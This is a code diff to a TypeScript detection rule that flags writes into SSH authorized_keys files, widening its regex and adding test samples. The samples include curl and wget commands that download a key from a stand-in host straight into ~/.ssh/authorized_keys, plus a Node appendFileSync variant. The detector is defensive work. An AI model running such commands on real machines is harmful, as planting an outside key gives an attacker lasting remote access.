@@ -23,7 +23,8 @@ export const SSH_AUTHORIZED_KEYS_RULES: readonly Rule[] = [
     expression: expression(
       'gi',
       '(?:',
-      String.raw`(?:>{1,2}|(?:&gt;){1,2}|\\u003e|\btee\b(?:[ \t]{1,4}-{1,2}[a-z]{1,8})?|\b(?:curl|wget)\b[^\r\n|;]{1,160}?[ \t]-(?:o|O|-output|-output-document)[ =]?|\bof=)[ \t]{0,4}`,
+      String.raw`(?:>{1,2}|(?:&gt;){1,2}|\\u003e|\btee\b(?:[ \t]{1,4}-{1,2}[a-z]{1,8})?|\b(?:curl|wget)\b[^\r\n|;]{0,160}?[ \t]-(?:[A-Za-z]{0,6}[oO]|-output|-output-document)[ =]?|\bof=)[ \t]{0,4}`,
+      String.raw`|\b(?:append|write)File(?:Sync)?\([^\r\n;]{0,60}?`,
       String.raw`|\b(?:cp|mv|install|ln|scp|rsync)[ \t]{1,4}[^\r\n|;&>]{1,120}?[ \t]{1,4}`,
       ')',
       FILE,
@@ -37,6 +38,9 @@ export const SSH_AUTHORIZED_KEYS_RULES: readonly Rule[] = [
         'cat k.pub | tee -a /root/.ssh/authorized_keys',
         'curl -s http://x.example/k -o ~/.ssh/authorized_keys',
         'cp /tmp/k $HOME/.ssh/authorized_keys',
+        'curl -so ~/.ssh/authorized_keys http://x.example/k',
+        'wget -O ~/.ssh/authorized_keys http://x.example/k',
+        "fs.appendFileSync(home + '/.ssh/authorized_keys', key)",
         'printf x &gt;&gt; /home/u/.ssh/authorized_keys',
       ];
     },
